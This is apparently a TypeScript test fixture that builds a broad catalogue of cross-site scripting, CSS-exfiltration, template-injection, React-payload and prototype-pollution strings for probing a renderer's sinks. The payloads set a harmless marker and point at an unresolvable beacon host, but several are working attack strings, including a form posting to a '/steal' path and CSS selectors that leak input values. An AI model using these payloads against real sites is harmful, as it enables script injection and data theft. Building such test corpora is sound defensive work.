/** What a script would set if one ran, and the name under which a polluted prototype would show. */
export const marker = '__pwned';

const run = `window.${marker}=1`;
const page = `<script>parent.${marker}=1</script>`;
const hex = [...run].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
const decimal = [...run].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const base64 = Buffer.from(`<script>opener.${marker}=1</script>`).toString('base64');
/** Nobody answers there: a page that asks for it is caught by its request. */
const beacon = 'http://beacon.invalid';

/** Attacks by the mistake they hope for; `whole` ones work only where they are all of a value. */
const kinds: Readonly<Record<string, readonly string[]>> = {
  elements: [
    `<script>${run}</script>`,
    `<SCRIPT>${run}</SCRIPT >`,
    `<script/x>${run}</script>`,
    `<script type="text/javascript" defer>${run}//</script>`,
    `<script type=module>${run}</script>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `<script src=//beacon.invalid/a.js></script>`,
    `<script>/*`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<link rel=stylesheet href=${beacon}/a.css>`,
    `<link rel=import href="data:text/html,${page}">`,
    `<link rel=preload as=script href=${beacon}/p.js>`,
    `<base href=${beacon}/>`,
    `<form action=${beacon}/steal><input name=a><button>Go on</button></form>`,
    `<input type=image src=${beacon}/i.png>`,
    `<object data="data:text/html,${page}"></object>`,
    `<embed src="javascript:${run}">`,
    `<applet code=${beacon}/a.class></applet>`,
    `<portal src=${beacon}></portal>`,
    `<template><script>${run}</script></template>`,
    `<noscript><script>${run}</script></noscript>`,
    `<frameset onload=${run}><frame src=${beacon}></frameset>`,
  ],
  handlers: [
    `<img src=x onerror="${run}">`,
    `<img src=x onerror=${run}>`,
    `<img/src/onerror=${run}>`,
    `<IMG SRC=x oNeRrOr=${run}>`,
    `<img src=x onerror\n=\n"${run}">`,
    `<img src=x:x onerror=\`${run}\`>`,
    `<body onload=${run}>`,
    `<body onpageshow=${run}>`,
    `<details open ontoggle=${run}>x</details>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}></select>`,
    `<textarea autofocus onfocus=${run}>`,
    `<button autofocus onfocus=${run}>x</button>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<video><source onerror=${run}></video>`,
    `<video src=x onerror=${run} autoplay></video>`,
    `<audio src=x onerror=${run}>`,
    `<a id=x tabindex=1 onfocus=${run}>x</a>`,
    `<div style="animation:x" onanimationstart=${run}>x</div>`,
    `<div onpointerenter=${run} style="position:fixed;inset:0">x</div>`,
    `<x oncontentvisibilityautostatechange=${run} style=display:block;content-visibility:auto>`,
    `<iframe onload=${run}></iframe>`,
    `<object onerror=${run} data=x></object>`,
    `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  ],
  'SVG and MathML': [
    `<svg onload=${run}>`,
    `<svg/onload=${run}//`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:,${run}"/></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to="javascript:${run}"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    `<svg><style>@import '${beacon}/s.css'</style></svg>`,
    `<math href="javascript:${run}">a</math>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${run}">a</maction></math>`,
    `<math><mtext><img src=x onerror=${run}></mtext></math>`,
    `<image src=x href=x onerror=${run}>`,
  ],
  'attribute breaks': [
    `" onmouseover="${run}" x="`,
    `' onmouseover='${run}' x='`,
    `" autofocus onfocus=${run} x="`,
    `"><img src=x onerror=${run}>`,
    `'><img src=x onerror=${run}>`,
    `\`><img src=x onerror=${run}>`,
    `x onerror=${run} src=x`,
    `"/><svg onload=${run}>`,
    `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
    `\\"><img src=x onerror=${run}>`,
    `" formaction="javascript:${run}" type=submit x="`,
    `" style="position:fixed;inset:0" onclick="${run}`,
  ],
  'ends of other texts': [
    `</script><script>${run}</script>`,
    `</ScRiPt\t><img src=x onerror=${run}>`,
    `</title><img src=x onerror=${run}>`,
    `</textarea><img src=x onerror=${run}>`,
    `</style><img src=x onerror=${run}>`,
    `</noscript><img src=x onerror=${run}>`,
    `</template><img src=x onerror=${run}>`,
    `</select></option><img src=x onerror=${run}>`,
    `</iframe></xmp></noembed><img src=x onerror=${run}>`,
    `--><img src=x onerror=${run}><!--`,
    `--!><img src=x onerror=${run}>`,
    `<!--<script>${run}//`,
    `<!--><img src=x onerror=${run}>-->`,
    `]]><img src=x onerror=${run}><![CDATA[`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${run}">]>`,
    `*/${run}/*`,
    `';${run};'`,
    `";${run};"`,
    `\`;${run};\``,
    `\u2028${run}\u2029//`,
    `'\u2029${run}//`,
  ],
  'changed by parsing': [
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<table><td><img src=x onerror=${run}></table>`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<xmp><p title="</xmp><svg/onload=${run}>">`,
    `<p id="\`\`onerror=${run}//">`,
    `<select><template><img src=x onerror=${run}></template></select>`,
    `<a href="x<img src=x onerror=${run}>">a</a>`,
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  ],
  styles: [
    `<style>@import "${beacon}/c.css";</style>`,
    `<style>*{background:url(${beacon}/b.png)}</style>`,
    `<div style="background:url('${beacon}/d.png')">x</div>`,
    `<div style="width:expression(${run})">x</div>`,
    `<style>input[value^=a]{background:url(${beacon}/v)}</style>`,
    `};*{background:url(${beacon}/e)}`,
    `x;background:url(${beacon}/f);-moz-binding:url(${beacon}/g)`,
    `<style>@font-face{font-family:x;src:url(${beacon}/h)}*{font-family:x}</style>`,
  ],
  refreshes: [
    `<meta http-equiv=refresh content="0;url=${beacon}">`,
    `<meta http-equiv="refresh" content="0; url=javascript:${run}">`,
    `<meta http-equiv=refresh content='0;url=data:text/html,${page}'>`,
    `<meta http-equiv=set-cookie content="s2s=stolen">`,
    `<meta http-equiv=content-security-policy content="script-src *">`,
    `<meta name=referrer content=unsafe-url>`,
  ],
  frames: [
    `<iframe srcdoc="${page}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${marker}=1&lt;/script&gt;"></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe src="data:text/html,${page}"></iframe>`,
    `<iframe src=${beacon}></iframe>`,
    `<fencedframe src=${beacon}></fencedframe>`,
  ],
  markdown: [
    `[a](javascript:${run})`,
    `[a]( JaVaScRiPt:${run} "b")`,
    `[a](data:text/html;base64,${base64})`,
    `![b](${beacon}/b.png)`,
    `![b](x"onerror="${run})`,
    `[a]: javascript:${run}`,
    `<javascript:${run}>`,
    `<${beacon}>`,
    `| a |\n|---|\n| <img src=x onerror=${run}> |`,
    `\`\`\`\n<img src=x onerror=${run}>\n\`\`\``,
  ],
  encodings: [
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run}&#62;`,
    `&#x3c;img src=x onerror=${run}&#x3e;`,
    `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `%253Cimg%20src%3Dx%20onerror%3D${run}%253E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `\\x3cimg src=x onerror=${run}\\x3e`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `<img src=x onerror="${decimal}">`,
    `<img src=x onerror="eval('${hex}')">`,
    `<img src=x onerror=eval(atob('${Buffer.from(run).toString('base64')}'))>`,
    `<\u0000script>${run}</script>`,
    `\u00bcscript\u00be${run}\u00bc/script\u00be`,
    `<img\u000csrc=x\u000conerror=${run}>`,
    `\ud800<img src=x onerror=${run}>\udfff`,
  ],
  'letters that deceive': [
    `\u202e<img src=x onerror=${run}>\u202c`,
    `\u2066javascript:${run}\u2069`,
    `\u202egnp.exe\u2066\u200b`,
    `\u200f\u061c${run}\u200e`,
    `a\u0300\u0301\u0302\u0303\u0304\u0305\u0306<blink>x</blink>`,
    `\u001b]8;;javascript:${run}\u0007a\u001b]8;;\u0007`,
    `\u001b[31m${run}\u009b0m\u0007`,
    `\ufeff<svg onload=${run}>\u00ad`,
  ],
};

/** Those that hope to be the whole of a value: an address, a template, a row of the framework, a name of a member, a formula. */
const wholeKinds: Readonly<Record<string, readonly string[]>> = {
  addresses: [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript\t:${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `&#106;avascript:${run}`,
    `java&Tab;script:${run}`,
    `javascript://a.example/%0A${run}`,
    `javascript:%77indow.${marker}=1`,
    `view-source:javascript:${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>opener.${marker}=1</script>`,
    `data:text/html;base64,${base64}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `//beacon.invalid/a`,
    `/\\beacon.invalid/a`,
    `https:beacon.invalid`,
    `http://a@beacon.invalid/`,
  ],
  templates: [
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `{%raw%}${run}{%endraw%}`,
    `[[\${${run}}]]`,
    `{{=<% %>=}}<%&${run}%>`,
    `{{#with "s" as |a|}}{{a.constructor}}{{/with}}`,
    `*{T(java.lang.Runtime).getRuntime()}`,
    `=HYPERLINK("javascript:${run}","a")`,
  ],
  'rows and JSON': [
    '$L1',
    '$@1',
    '$undefined',
    '$F1',
    '$RC',
    `1:["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${run}"}}]\n`,
    `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
    `\\u0022],[\\u0022$\\u0022,\\u0022script\\u0022`,
    `"]);${run};self.__next_f.push([1,"`,
    `","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"},"a":"`,
    `{"__proto__":{"${marker}":1}}`,
    '__proto__',
    'constructor',
    'toString',
    'dangerouslySetInnerHTML',
  ],
};

/** Every attack by its kind. */
export const payloadKinds = { ...kinds, ...wholeKinds };

/** Every attack, those of `wholeKinds` last. */
export const everyScript: readonly string[] = Object.values(payloadKinds).flat();

/** How many attacks that need no value of their own stand in one text. */
const perText = 10;

/** Texts that hold every attack: one alone where it has to be the whole value, else several in a row. For sinks that show one value at a time. */
export const scriptTexts: readonly string[] = [
  ...packs(Object.values(kinds).flat()),
  ...Object.values(wholeKinds).flat(),
];

function packs(texts: readonly string[]): string[] {
  const many = Math.ceil(texts.length / perText);
  return Array.from({ length: many }, (_, at) => texts.slice(at * perText, (at + 1) * perText).join(' '));
}

/** Every attack in texts of at most `charactersMax`, one after another. */
export function textsOf(charactersMax: number): readonly string[] {
  const texts: string[] = [];
  for (const script of everyScript) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + script.length <= charactersMax)
      texts[texts.length - 1] = `${last} ${script}`;
    else texts.push(script.slice(0, charactersMax));
  }
  return texts;
}
